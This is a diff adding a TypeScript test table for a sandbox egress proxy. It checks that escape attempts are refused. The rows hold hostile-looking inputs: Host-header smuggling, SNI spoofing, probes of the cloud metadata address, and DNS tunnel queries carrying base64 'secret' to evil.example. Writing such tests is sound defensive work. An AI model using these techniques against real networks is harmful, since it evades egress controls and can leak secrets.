@@ -1,0 +1,152 @@
+/** Ways out that a guest with RULES tries by honest sockets, and what must come of each. */
+import assert from 'node:assert/strict'
+import { type Attempt, datagram, NO_ANSWER, question, talk } from './attacker.ts'
+import { clientHello, inRecords } from './client-hello.ts'
+import { EVIL, NAME_SERVER, PUBLIC_HOST, RULED, run, SHOP, UPLINK, WILD } from './own-machine.ts'
+
+export const RULES = [
+  'shop.example',
+  '*.wild.example',
+  'plain.example:80',
+  'xn--bcher-kva.example',
+  'rebind.example',
+  'metadata.example',
+  'mixed.example',
+  'host.example',
+  RULED[0],
+  `${RULED[1]}:7777`,
+  '198.18.10.0/24:80',
+  // Names a private address, which the operator has not allowed.
+  '10.9.9.9',
+  // The same, allowed.
+  '172.20.0.1:80',
+]
+const TYPE = { A: 1, NS: 2, NULL: 10, MX: 15, TXT: 16, AAAA: 28, HTTPS: 65, ANY: 255 }
+const HELLO = {
+  shop: await clientHello('shop.example'),
+  shouted: await clientHello('ShOp.ExAmPlE.'),
+  plain: await clientHello('plain.example'),
+  evil: await clientHello('evil.example'),
+  below: await clientHello('www.shop.example'),
+  nobody: await clientHello(),
+}
+
+const get = (host: string, target = '/') => `GET ${target} HTTP/1.1\r\nHost: ${host}\r\n\r\n`
+const http = (to: string, ...parts: string[]) => talk(to, 80, ...parts)
+const https = (to: string, ...parts: Buffer[]) => talk(to, 443, ...parts)
+
+export type Row = [tried: string, attempt: Attempt, expected: string | RegExp]
+const OK = (address: string, host: string) => new RegExp(`^HTTP/1.1 200 OK.*${address} as ${host}$`, 's')
+const FORBIDDEN = /^HTTP\/1\.1 403 Forbidden.*egress refused/s
+const ALERT = Buffer.from([21, 3, 3, 0, 2, 2, 112]).toString('latin1')
+
+export const WEB: Row[] = [
+  ['HTTP to an allowed host', http(SHOP, get('shop.example')), OK(SHOP, 'shop.example')],
+  ['at a forged address', http(EVIL, get('shop.example')), OK(SHOP, 'shop.example')],
+  ['at a forged private address', http('10.9.9.10', get('shop.example')), NO_ANSWER],
+  ['another host at the allowed address', http(SHOP, get('evil.example')), FORBIDDEN],
+  ['upper case and a last dot', http(SHOP, get('SHOP.Example.')), OK(SHOP, 'SHOP.Example.')],
+  ['an IDN in its xn-- form', http(SHOP, get('xn--bcher-kva.example')), OK(SHOP, 'xn--bcher-kva.example')],
+  ['an IDN in UTF-8', http(SHOP, get('b\xc3\xbccher.example')), FORBIDDEN],
+  ['a host below a plain rule', http(SHOP, get('www.shop.example')), FORBIDDEN],
+  ['a longer name that ends alike', http(SHOP, get('notshop.example')), FORBIDDEN],
+  ['a name that begins alike', http(EVIL, get('shop.example.evil.example')), FORBIDDEN],
+  ['below a wildcard', http(EVIL, get('a.b.wild.example')), OK(WILD, 'a.b.wild.example')],
+  ['the apex of a wildcard', http(WILD, get('wild.example')), FORBIDDEN],
+  ['HTTP/1.0 with Host', http(SHOP, 'GET / HTTP/1.0\r\nHost: shop.example\r\n\r\n'), OK(SHOP, 'shop.example')],
+  ['HTTP/1.0 without Host', http(SHOP, 'GET / HTTP/1.0\r\n\r\n'), FORBIDDEN],
+  ['two Host headers', http(SHOP, 'GET / HTTP/1.1\r\nHost: shop.example\r\nHost: evil.example\r\n\r\n'), FORBIDDEN],
+  ['a folded Host header', http(SHOP, 'GET / HTTP/1.1\r\nHost:\r\n evil.example\r\n\r\n'), FORBIDDEN],
+  ['absolute form, same host', http(SHOP, get('shop.example', 'http://shop.example/')), OK(SHOP, 'shop.example')],
+  ['absolute form, another host', http(SHOP, get('shop.example', 'http://evil.example/')), FORBIDDEN],
+  ['CONNECT', http(SHOP, 'CONNECT evil.example:443 HTTP/1.1\r\nHost: shop.example\r\n\r\n'), FORBIDDEN],
+  ['CONNECT, allowed host', http(SHOP, 'CONNECT shop.example:443 HTTP/1.1\r\nHost: shop.example\r\n\r\n'), FORBIDDEN],
+  ['a head in many segments', http(SHOP, ...get('shop.example').match(/.{1,6}/gs)!), OK(SHOP, 'shop.example')],
+  ['pipelined, same host', http(SHOP, get('shop.example') + get('shop.example')), /(as shop\.example.*){2}$/s],
+  ['pipelined, another host', http(SHOP, get('shop.example') + get('evil.example')), /^(?!.*as evil)/s],
+  ['keep-alive, another host', http(SHOP, get('shop.example'), get('evil.example')), /^(?!.*as evil)/s],
+  ['HTTP/2 without TLS', http(SHOP, 'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'), FORBIDDEN],
+  ['a TLS hello on port 80', http(SHOP, HELLO.shop.toString('latin1')), /^(HTTP\/1\.1 403|closed|no answer)/],
+  ['TLS to an allowed host', https(SHOP, HELLO.shop), `tls ${SHOP}`],
+  ['TLS at a forged address', https(EVIL, HELLO.shop), `tls ${SHOP}`],
+  ['TLS, upper case and a last dot', https(EVIL, HELLO.shouted), `tls ${SHOP}`],
+  ['TLS to another host', https(SHOP, HELLO.evil), ALERT],
+  ['TLS to a host below', https(SHOP, HELLO.below), ALERT],
+  ['TLS without a name', https(SHOP, HELLO.nobody), ALERT],
+  ['a hello in records of 60 bytes', https(EVIL, Buffer.concat(inRecords(HELLO.shop, 60))), `tls ${SHOP}`],
+  ['a hello in records and segments', https(EVIL, ...inRecords(HELLO.shop, 60)), `tls ${SHOP}`],
+  ['another host in records and segments', https(SHOP, ...inRecords(HELLO.evil, 60)), ALERT],
+  ['another host in records of one byte', https(SHOP, Buffer.concat(inRecords(HELLO.evil, 1))), ALERT],
+  ['TLS where a rule says port 80', https(SHOP, HELLO.plain), ALERT],
+  ['HTTP where a rule says port 80', http(EVIL, get('plain.example')), OK(SHOP, 'plain.example')],
+  ['SSH on port 443', https(SHOP, Buffer.from('SSH-2.0-x\r\n')), ALERT],
+  ['HTTP on port 443', https(SHOP, Buffer.from(get('shop.example'))), ALERT],
+  ['a name that leads to a private address', http(SHOP, get('rebind.example')), FORBIDDEN],
+  ['a name that leads to the metadata service', http(SHOP, get('metadata.example')), FORBIDDEN],
+  ['a name that leads to this host', http(SHOP, get('host.example')), FORBIDDEN],
+  ['a name that leads to both', http(EVIL, get('mixed.example')), OK(SHOP, 'mixed.example')],
+]
+
+export const ADDRESSES: Row[] = [
+  ['an allowed address', talk(RULED[0], 80), `hello ${UPLINK.address}`],
+  ['an allowed address and port, at another', talk(RULED[1], 9000), NO_ANSWER],
+  // Port 80 belongs to the proxy, which wants a name.
+  ['the same at port 80', talk(RULED[1], 80, get(RULED[1])), FORBIDDEN],
+  ['an allowed block and port', talk(RULED[2], 80), `hello ${UPLINK.address}`],
+  ['an allowed block, at another port', talk(RULED[2], 9000), NO_ANSWER],
+  ['an address that no rule names', talk(PUBLIC_HOST, 9000), NO_ANSWER],
+  ['a private address in a rule', talk('10.9.9.9', 80), NO_ANSWER],
+  ['one that the operator allows too', talk('172.20.0.1', 80), `hello ${UPLINK.address}`],
+  ['the same at another port', talk('172.20.0.1', 9000), NO_ANSWER],
+  ['the metadata service', talk('169.254.169.254', 80), NO_ANSWER],
+  ['raw UDP to port 443 of an allowed host', datagram(SHOP, 443, 'quic'), 'sent'],
+  ['UDP to an allowed address and port', datagram(RULED[1], 7777, 'ruled'), 'sent'],
+  ['UDP to port 443 of an allowed address', datagram(RULED[0], 443, 'quic-ruled'), 'sent'],
+  ['UDP to any other', datagram(PUBLIC_HOST, 7777, 'evil'), 'sent'],
+]
+
+export const NAMES: Row[] = [
+  ['a question for an allowed name', question('shop.example'), `NOERROR ${SHOP}`],
+  ['in upper case', question('SHOP.EXAMPLE'), `NOERROR ${SHOP}`],
+  ['over TCP', question('shop.example', TYPE.A, { overTcp: true }), `NOERROR ${SHOP}`],
+  ['to another name server', question('shop.example', TYPE.A, { server: '198.18.77.77' }), `NOERROR ${SHOP}`],
+  ['its IPv6 address', question('shop.example', TYPE.AAAA), 'NOERROR'],
+  ['its HTTPS record', question('shop.example', TYPE.HTTPS), 'NOERROR'],
+  ['a name that no rule names', question('evil.example'), 'NXDOMAIN'],
+  ['TXT tunnel', question('c2VjcmV0.t1.evil.example', TYPE.TXT), 'NXDOMAIN'],
+  ['TXT tunnel over TCP', question('c2VjcmV0.t2.evil.example', TYPE.TXT, { overTcp: true }), 'NXDOMAIN'],
+  ['TXT tunnel, public server', question('c2VjcmV0.t3.evil.example', TYPE.TXT, { server: NAME_SERVER }), 'NXDOMAIN'],
+  ['TXT tunnel below an allowed host', question('c2VjcmV0.t4.shop.example', TYPE.TXT), 'NXDOMAIN'],
+  ['NULL tunnel', question('c2VjcmV0.t5.evil.example', TYPE.NULL), 'NXDOMAIN'],
+  ['MX tunnel', question('c2VjcmV0.t6.evil.example', TYPE.MX), 'NXDOMAIN'],
+  ['ANY tunnel', question('c2VjcmV0.t7.evil.example', TYPE.ANY), 'NXDOMAIN'],
+  ['the apex of a wildcard', question('wild.example', TYPE.TXT), 'NXDOMAIN'],
+  ['the root', question('example', TYPE.NS), 'NXDOMAIN'],
+]
+
+/** Every port on which anything of this machine listens: of the host it reaches names and the proxy, which judges. */
+export function toThisHost(apiPort: number): Row[] {
+  const listening = [...run('ss -Hltn').matchAll(/ (\S+):(\d+) /g)].map(([, at, port]) => ({ at, port: Number(port) }))
+  assert.ok(listening.some(({ port }) => port === apiPort))
+  const request = get('evil.example')
+  return listening.flatMap(({ at, port }): Row[] => [
+    [`this host, ${UPLINK.address}:${port}`, talk(UPLINK.address, port, request), NO_ANSWER],
+    [`this host, 172.30.0.1:${port}`, talk('172.30.0.1', port, request), NO_ANSWER],
+    [
+      `this host, 169.254.1.1:${port}`,
+      talk('169.254.1.1', port, request),
+      at === '169.254.1.1' ? new RegExp(`^(closed|no answer|${ALERT})$|${FORBIDDEN.source}`, 's') : NO_ANSWER,
+    ],
+  ])
+}
+
+export const toSandbox = (ip: string): Row[] =>
+  [22, 80, 443, 9000].map((port) => [`another sandbox, port ${port}`, talk(ip, port, get('shop.example')), NO_ANSWER])
+
+/** The row as a line of the table that is printed, and whether it is as it must be. */
+export function judge([tried, , expected]: Row, got: string): { passes: boolean; line: string } {
+  const passes = typeof expected === 'string' ? got === expected : expected.test(got)
+  const parts = got.split('\r\n')
+  const summary = JSON.stringify(parts.length === 1 ? got : `${parts[0]} … ${parts.at(-1)}`)
+  return { passes, line: `${passes ? 'ok ' : 'BAD'} ${tried}: ${summary}${passes ? '' : `, not ${expected}`}` }
+}
